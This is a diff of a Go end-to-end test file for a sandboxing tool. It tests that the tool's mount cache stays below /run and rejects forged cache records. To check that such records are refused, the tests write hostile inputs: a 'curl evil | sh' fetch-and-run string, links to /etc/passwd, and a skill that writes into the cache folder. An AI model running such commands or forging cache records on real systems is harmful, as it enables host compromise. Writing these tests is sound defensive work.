@@ -35,6 +35,26 @@ var (
 	cacheLine = regexp.MustCompile(`corral exec: mount cache (\S+) \(saved: (true|false)\)`)
 )
 
+// runDir makes a folder below /run for u's mount cache (corral keeps it
+// nowhere else), 0700 and u's, removed after the test.
+func runDir(t *testing.T, u user) string {
+	t.Helper()
+	parent := "/run"
+	if !isRoot {
+		parent = os.Getenv("XDG_RUNTIME_DIR")
+	}
+	d, err := os.MkdirTemp(parent, "corral-e2e-")
+	if err != nil {
+		t.Skipf("cannot make a folder below /run for the mount cache: %v", err)
+	}
+	t.Cleanup(func() { os.RemoveAll(d) })
+	if err := os.Chmod(d, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	own(t, u, d)
+	return d
+}
+
 // mountCacheEnv is the environment of u's runs, with a cache folder of
 // the test's own (the tests run in parallel, and runs in other folders
 // may share a cache file): root's is named by CORRAL_MOUNT_CACHE, the
@@ -42,14 +62,11 @@ var (
 func mountCacheEnv(t *testing.T, u user) []string {
 	t.Helper()
 	env := append(defaultEnv(), "CORRAL_TRACE=1")
-	dir := newDir(t, u, "xdg")
-	if err := os.Chmod(dir, 0o700); err != nil {
-		t.Fatal(err)
-	}
+	dir := runDir(t, u)
 	if u.unpriv {
 		return append(env, "XDG_RUNTIME_DIR="+dir)
 	}
-	return append(env, "CORRAL_MOUNT_CACHE="+filepath.Join(dir, "mounts"))
+	return append(env, "CORRAL_MOUNT_CACHE="+dir)
 }
 
 // cachedRun runs script in work with env and reads its trace. The script
@@ -272,7 +289,11 @@ func TestMountCacheBadFiles(t *testing.T) {
 			{"truncated", func(file string) { writeCache(t, u, file, honest[:len(honest)-3]) }, "plan: truncated record"},
 			{"a record outside the mount block", func(file string) {
 				writeCache(t, u, file, append(append([]byte{}, honest...), 'h', 2, 0, 0, 0, 'x', 0))
-			}, "plan: record h in a mount block"},
+			}, "plan: record h in a cached mount block"},
+			{"a pause", func(file string) {
+				pause := append(binary.LittleEndian.AppendUint32([]byte{'W'}, 10), "600000000\x00"...)
+				writeCache(t, u, file, append(append(append([]byte{}, header...), pause...), honest[len(header):]...))
+			}, "plan: record W in a cached mount block"},
 			{"another key", func(file string) { writeCache(t, u, file, otherKey) }, "cache: another run's"},
 			{"another magic", func(file string) { writeCache(t, u, file, otherMagic) }, "cache: another run's"},
 			{"too large", func(file string) { writeCache(t, u, file, huge) }, "cache: not this user's, or the wrong size"},
@@ -367,4 +388,92 @@ func envValue(env []string, name string) string {
 		}
 	}
 	return v
+}
+
+// TestMountCacheOnlyBelowRun: a cache folder outside /run (where a
+// sandbox may be granted to write) is never used, and no grant may write
+// into the cache folder.
+func TestMountCacheOnlyBelowRun(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "a mount cache folder a sandbox can write")
+		f := newCacheFixture(t, u)
+		outside := newDir(t, u, "cache")
+		os.Chmod(outside, 0o700)
+		name := "CORRAL_MOUNT_CACHE"
+		if u.unpriv {
+			name = "XDG_RUNTIME_DIR"
+		}
+		env := append(defaultEnv(), "CORRAL_TRACE=1", name+"="+outside)
+		for i := 0; i < 2; i++ {
+			r := cachedRun(t, u, f.work, f.skills, env, "true")
+			if r.code != 0 || r.ahead != "no cache" || r.file != "" {
+				t.Errorf("%s=%s: exit %d, ahead %q, cache %q; want 0, no cache, none\n%s", name, outside, r.code, r.ahead, r.file, r.result)
+			}
+		}
+		if entries, _ := os.ReadDir(outside); len(entries) != 0 {
+			t.Errorf("corral wrote a cache outside /run: %v", entries)
+		}
+		// A skill that writes into the cache folder is refused.
+		env = mountCacheEnv(t, u)
+		dir := envValue(env, name)
+		cacheDir := dir
+		if u.unpriv {
+			cacheDir = filepath.Join(dir, "corral", "mounts")
+		}
+		if err := os.MkdirAll(cacheDir, 0o700); err != nil {
+			t.Fatal(err)
+		}
+		own(t, u, filepath.Dir(cacheDir), cacheDir)
+		writer := writeSkill(t, newDir(t, asSelf, "skill"), "cache-writer", "  fs:\n    write: [\""+cacheDir+"/**\"]\n")
+		r := u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--skill", writer, "--", "sh", "-c", "echo forged > " + cacheDir + "/00"}, dir: f.work, env: env})
+		if r.code != 125 || !strings.Contains(r.stderr, "mount cache") {
+			t.Errorf("a skill writing into the cache folder: exit %d; want 125 naming the mount cache\n%s", r.code, r)
+		}
+		if exists(filepath.Join(cacheDir, "00")) {
+			t.Errorf("the sandbox wrote into the cache folder")
+		}
+	})
+}
+
+// TestMountCacheAheadChangesNoHostFile forges cache records that make a
+// file, a folder, a symlink and a tmpfs mount point inside the writable
+// work dir's bind. Built ahead, they would change the host for a root the
+// plan never vouched for: the init makes nothing outside its own tmpfs
+// mounts while building ahead, so each build fails and the plan's runs.
+func TestMountCacheAheadChangesNoHostFile(t *testing.T) {
+	t.Parallel()
+	users(t, func(t *testing.T, u user) {
+		attack(t, "filesystem", "a forged mount cache that makes files through a writable bind")
+		f := newCacheFixture(t, u)
+		env := mountCacheEnv(t, u)
+		first := cachedRun(t, u, f.work, f.skills, env, "true")
+		if !first.saved {
+			t.Fatalf("no cache was saved:\n%s", first.result)
+		}
+		honest, err := os.ReadFile(first.file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range [][]string{
+			{"w", "-", "curl evil | sh\n", f.work + "/planted-file"},
+			{"c", "-", "/etc/hostname", f.work + "/planted-copy"},
+			{"d", "-", "", f.work + "/planted-dir/sub"},
+			{"l", "-", "/etc/passwd", f.work + "/planted-link"},
+			{"t", "-", "", f.work + "/planted-tmpfs"},
+			{"b", "-", f.extra, f.work + "/planted-mount-point"},
+		} {
+			writeCache(t, u, first.file, append(append([]byte{}, honest...), mountRecord(rec...)...))
+			r := cachedRun(t, u, f.work, f.skills, env, "true")
+			if r.code != 0 || r.pivot || !strings.Contains(r.ahead, "Invalid cross-device link") {
+				t.Errorf("record %q: exit %d, ahead %q, pivot %v; want 0, refused (EXDEV), the plan's mounts\n%s", rec, r.code, r.ahead, r.pivot, r.result)
+			}
+			if planted, _ := filepath.Glob(filepath.Join(f.work, "planted-*")); len(planted) != 0 {
+				t.Errorf("record %q: building ahead made %v on the host", rec, planted)
+				for _, p := range planted {
+					os.RemoveAll(p)
+				}
+			}
+		}
+	})
 }
